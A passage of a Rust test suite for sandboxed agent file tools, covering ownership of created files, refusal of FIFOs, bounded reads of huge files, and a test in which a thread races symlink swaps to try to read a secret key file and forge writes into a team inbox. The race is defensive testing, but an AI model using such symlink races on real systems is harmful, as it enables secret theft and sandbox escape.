                .starts_with("invalid tool arguments")
        );
    }

    #[test]
    fn what_the_tools_make_is_given_to_the_owner() {
        let tmp = tempfile::tempdir().unwrap();
        // Root gives it to nobody; anyone else can give it only to themselves.
        let owner = if nix::unistd::geteuid().is_root() {
            (65534, 65534)
        } else {
            (
                nix::unistd::geteuid().as_raw(),
                nix::unistd::getegid().as_raw(),
            )
        };
        std::fs::create_dir(tmp.path().join("was")).unwrap();
        std::fs::write(tmp.path().join("was/there.txt"), "x").unwrap();
        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
        let wd = Workdir::for_agent(tmp.path(), &team, Some(owner)).unwrap();
        assert!(!write(&wd, "was/a/b/new.txt", "y").is_error);
        assert!(!write(&wd, "was/there.txt", "z").is_error);
        let uid_gid = |p: &str| {
            let m = std::fs::metadata(tmp.path().join(p)).unwrap();
            (m.uid(), m.gid())
        };
        for made in ["was/a", "was/a/b", "was/a/b/new.txt"] {
            assert_eq!(uid_gid(made), owner, "{made}");
        }
        let own = (
            nix::unistd::geteuid().as_raw(),
            nix::unistd::getegid().as_raw(),
        );
        for kept in ["was", "was/there.txt"] {
            assert_eq!(uid_gid(kept), own, "{kept}");
        }
    }

    /// N4 in the library: while a thread swaps dirs with symlinks to the team dir (absolute and
    /// relative) and to a key file's dir, no read returns the key and no write lands in the
    /// team dir.
    #[test]
    fn a_racer_swapping_dirs_and_symlinks_gets_nothing_through() {
        let tmp = tempfile::tempdir().unwrap();
        let work = tmp.path().join("work");
        let keys = tmp.path().join("keys");
        std::fs::create_dir_all(&keys).unwrap();
        std::fs::write(keys.join("key"), "sk-secret").unwrap();
        let team = crate::TeamDir::create(work.join(".team")).unwrap();
        let inbox = team.root().join("inbox");
        std::fs::create_dir_all(&inbox).unwrap();
        std::fs::write(inbox.join("lead.jsonl"), "real\n").unwrap();
        for d in ["w", "r", "k"] {
            std::fs::create_dir(work.join(d)).unwrap();
        }
        std::fs::write(work.join("w/lead.jsonl"), "decoy\n").unwrap();
        std::fs::write(work.join("r/lead.jsonl"), "decoy\n").unwrap();
        std::fs::write(work.join("k/key"), "decoy\n").unwrap();
        symlink(&inbox, work.join("w.alt")).unwrap();
        symlink(".team/inbox", work.join("r.alt")).unwrap();
        symlink(&keys, work.join("k.alt")).unwrap();
        let wd = Workdir::new(&work)
            .unwrap()
            .forbid(team.root())
            .forbid(&keys.join("key"));
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let racer = {
            let (stop, work) = (stop.clone(), work.clone());
            std::thread::spawn(move || {
                let pairs: Vec<_> = ["w", "r", "k"]
                    .iter()
                    .map(|d| (work.join(d), work.join(format!("{d}.alt"))))
                    .collect();
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    for (a, b) in &pairs {
                        nix::fcntl::renameat2(
                            nix::fcntl::AT_FDCWD,
                            a.as_path(),
                            nix::fcntl::AT_FDCWD,
                            b.as_path(),
                            nix::fcntl::RenameFlags::RENAME_EXCHANGE,
                        )
                        .unwrap();
                    }
                }
            })
        };
        for _ in 0..2000 {
            let out = read(&wd, "k/key");
            assert!(!out.content.contains("sk-secret"), "{}", out.content);
            let _ = write(&wd, "w/lead.jsonl", "FORGED\n");
            let _ = write(&wd, "r/lead.jsonl", "FORGED\n");
            let _ = edit_file(
                &wd,
                &json!({"path": "r/lead.jsonl", "old_text": "real", "new_text": "FORGED"}),
            );
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        racer.join().unwrap();
        assert_eq!(
            std::fs::read_to_string(inbox.join("lead.jsonl")).unwrap(),
            "real\n"
        );
        assert_eq!(
            std::fs::read_dir(&inbox).unwrap().count(),
            1,
            "nothing was made in the inbox"
        );
    }

    #[test]
    fn a_fifo_is_refused_at_once() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        nix::unistd::mkfifo(&tmp.path().join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send([
                read_file(&wd, &json!({"path": "pipe"})),
                write_file(&wd, &json!({"path": "pipe", "content": "x"})),
                edit_file(
                    &wd,
                    &json!({"path": "pipe", "old_text": "a", "new_text": "b"}),
                ),
            ]);
            drop(tmp);
        });
        let outs = rx
            .recv_timeout(std::time::Duration::from_secs(5))
            .expect("a file tool on a FIFO must not block");
        for out in outs {
            assert!(out.is_error, "{}", out.content);
            assert_eq!(out.content, "pipe is not a regular file (a FIFO)");
        }
    }

    #[test]
    fn a_huge_file_is_read_only_up_to_a_bound() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        let f = std::fs::File::create(tmp.path().join("big.log")).unwrap();
        f.set_len(200 * 1024 * 1024).unwrap();
        let mut text = "x\n".repeat(10);
        text.push_str(&"y".repeat(300_000));
        std::fs::write(tmp.path().join("head.txt"), &text).unwrap();
        let t0 = std::time::Instant::now();
        let out = read_file(&wd, &json!({"path": "big.log", "limit": 3}));
        assert!(t0.elapsed() < std::time::Duration::from_secs(2));
        assert!(!out.is_error, "{}", out.content);
        assert!(
            out.content
                .ends_with("[big.log is 209715200 bytes; only its first 200000 bytes were read]"),
            "{}",
            out.content
        );
        let out = read_file(&wd, &json!({"path": "head.txt"}));
        assert!(out.content.starts_with("x\nx\n"));
        assert!(
            out.content.contains("[output truncated") && out.content.contains("300020 bytes"),
            "{}",
            &out.content[out.content.len() - 300..]
        );
    }
}
